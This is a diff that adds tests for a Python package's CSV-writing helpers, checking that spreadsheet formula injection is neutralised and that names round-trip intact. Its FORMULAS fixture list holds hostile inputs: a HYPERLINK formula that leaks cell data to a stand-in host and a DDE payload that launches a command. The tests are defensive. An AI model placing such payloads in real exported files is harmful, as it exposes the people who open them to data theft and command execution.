@@ -1,15 +1,32 @@
+import csv
 import json
 import multiprocessing
 import os
+import random
+import re
 import signal
 import threading
 import time
 from pathlib import Path
 
+import pandas as pd
 import pytest
 
 from retfound_hf.errors import OutputError
-from retfound_hf.files import atomic_file, atomic_folder, exclusive_folder, file_lock, move_into, write_json
+from retfound_hf.files import (
+    atomic_file,
+    atomic_folder,
+    exclusive_folder,
+    file_lock,
+    guard,
+    move_into,
+    read_rows,
+    rows_of_csv,
+    unguard,
+    with_formulas,
+    write_json,
+    write_table,
+)
 
 
 def names(folder) -> set[str]:
@@ -243,3 +260,49 @@ def test_a_folder_has_one_writer_until_it_ends(tmp_path, monkeypatch):
     with exclusive_folder(folder):
         pass
     assert list(tmp_path.iterdir()) == []
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&B2,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+2", "-x", "\t=1", "\r=1",
+    " =1", "＝1", "a;=1+1", "a;b;@x", "a\n-1", "'=1", "''-1", ";=", "\t",
+]  # fmt: skip
+ORDINARY = ["eye.png", "a/b-c+d=e@f.jpg", "'quoted'", "o'neil", "a;b", "眼底", "", "007", "a\nb", "it's -1", "{=1}"]
+
+
+class TestTables:
+    @pytest.mark.parametrize("text", FORMULAS)
+    def test_no_cell_is_computed_whatever_ends_one(self, text):
+        for cell in re.split("[;\t\r\n]", guard(text)):
+            assert not re.match("\\s*[=+@＝＋－＠-]", cell)
+        assert guard(text) != text and unguard(guard(text)) == text
+
+    @pytest.mark.parametrize("text", ORDINARY)
+    def test_ordinary_names_stay(self, text):
+        assert guard(text) == unguard(text) == text
+
+    def test_any_text_comes_back(self):
+        letters = random.Random(0)
+        for _ in range(20000):
+            text = "".join(letters.choices("'=+-@ \t\r\n;ax＝\xa0", k=letters.randrange(9)))
+            assert unguard(guard(text)) == text
+
+    def test_names_come_back_from_the_file_and_numbers_stay(self, tmp_path):
+        names = FORMULAS + ORDINARY
+        table = pd.DataFrame({"id": names, "=group": pd.Categorical(names), "value": range(len(names)), "true": True})
+        table["value"] = -table["value"] / 3
+        write_table(tmp_path / "table.csv", table)
+        with open(tmp_path / "table.csv", newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert not [cell for cell in cells if cell[:1] in tuple("=+@\t\r") or re.match("-[^0-9]", cell)]
+        again = with_formulas(pd.read_csv(tmp_path / "table.csv", dtype={"id": str}, keep_default_na=False))
+        assert list(again) == list(table) and again["id"].tolist() == names
+        assert again["value"].tolist() == table["value"].tolist() and again["true"].all()
+        assert [row["=group"] for row in read_rows(tmp_path / "table.csv")] == names
+
+    def test_rows_that_are_written_one_by_one(self, tmp_path):
+        with rows_of_csv(tmp_path / "rejected.csv", ("id", "reason")) as write:
+            write(("=1+1", "cut short"))
+            write(("a\rb", 3))
+        rows = [{"id": "=1+1", "reason": "cut short"}, {"id": "a\rb", "reason": "3"}]
+        assert read_rows(tmp_path / "rejected.csv") == rows
+        assert "\n'=1+1,cut short\n" in (tmp_path / "rejected.csv").read_text()
